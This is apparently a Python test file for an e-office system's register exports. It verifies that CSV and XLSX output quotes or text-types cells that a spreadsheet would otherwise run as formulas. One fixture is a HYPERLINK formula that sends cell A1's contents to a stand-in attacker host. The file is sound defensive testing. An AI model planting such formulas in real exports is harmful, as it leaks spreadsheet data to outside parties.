"""Register and vote exports never hand a spreadsheet a formula typed by someone else."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from eoffice import export, spreadsheet
from eoffice.documents import register_incoming
from eoffice.registers import local_date
from storage.blobs import BlobStore
from storage.db import Database, utcnow
from tests.eoffice.conftest import Org, incoming_fields

HOSTILE_SUMMARY = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Công văn khẩn")'
HOSTILE_SENDER = "@SUM(1+1) Ủy ban nhân dân xã Tràng Lương"


def test_csv_cell_quotes_only_what_a_spreadsheet_would_evaluate() -> None:
    for text in ("=1+1", "+84 203 3835 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet.csv_cell(text) == "'" + text
    for value in ("Công văn số 12/UBND-VX", "", "1 = 1", 42, -5, None):
        assert spreadsheet.csv_cell(value) == value


async def test_registers_keep_hostile_text_as_text(db: Database, org: Org, blobs: BlobStore) -> None:
    clerk = org["vanthu"]
    async with db.uow() as uow:
        await register_incoming(uow, clerk, blobs, **incoming_fields(1, summary=HOSTILE_SUMMARY, sender=HOSTILE_SENDER))
        await uow.commit()
    year = local_date(utcnow()).year
    async with db.uow(readonly=True) as uow:
        _, data = await export.export_register(uow, clerk, direction="in", year=year, fmt="csv")
        row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
        assert row[2] == "'" + HOSTILE_SENDER
        assert HOSTILE_SUMMARY in row[5] and not row[5].startswith("=")  # "Công văn ..." comes first
        _, data = await export.export_register(uow, clerk, direction="in", year=year, fmt="xlsx")
    ws = load_workbook(io.BytesIO(data)).active
    sender = ws["C4"]
    assert sender.value == HOSTILE_SENDER and sender.data_type == "s"
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_xlsx_cells_typed_as_text_even_when_they_start_with_equals() -> None:
    data = export.to_xlsx("Sổ thử", ["A", "B"], [[HOSTILE_SUMMARY, "=2*3"]])
    ws = load_workbook(io.BytesIO(data)).active
    assert [(c.value, c.data_type) for c in ws[4]] == [(HOSTILE_SUMMARY, "s"), ("=2*3", "s")]
